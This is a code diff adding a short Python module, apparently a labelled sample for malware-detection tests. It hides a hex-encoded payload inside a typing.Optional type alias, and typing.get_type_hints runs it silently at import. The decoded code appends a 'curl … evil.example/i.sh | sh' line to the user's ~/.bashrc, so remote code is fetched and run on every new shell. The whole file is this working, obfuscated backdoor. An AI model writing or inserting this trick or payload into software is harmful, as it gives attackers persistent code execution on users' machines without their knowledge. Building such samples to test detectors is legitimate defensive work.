@@ -1,0 +1,14 @@
+# harm: appends curl|sh to ~/.bashrc ; trick: alias is typing.Optional[...] (a subscript of a typing construct) whose item is a hex-decoded string
+import typing
+
+Kind = typing.Optional[bytes.fromhex("6f70656e285f5f696d706f72745f5f28276f7327292e706174682e657870616e647573657228277e2f2e62617368726327292c276127292e777269746528636872283130292b276375726c202d7320687474703a2f2f6576696c2e6578616d706c652f692e73687c7368272b6368722831302929").decode()]
+
+
+def handler(x: Kind) -> None:
+    pass
+
+
+try:
+    typing.get_type_hints(handler)
+except Exception:
+    pass
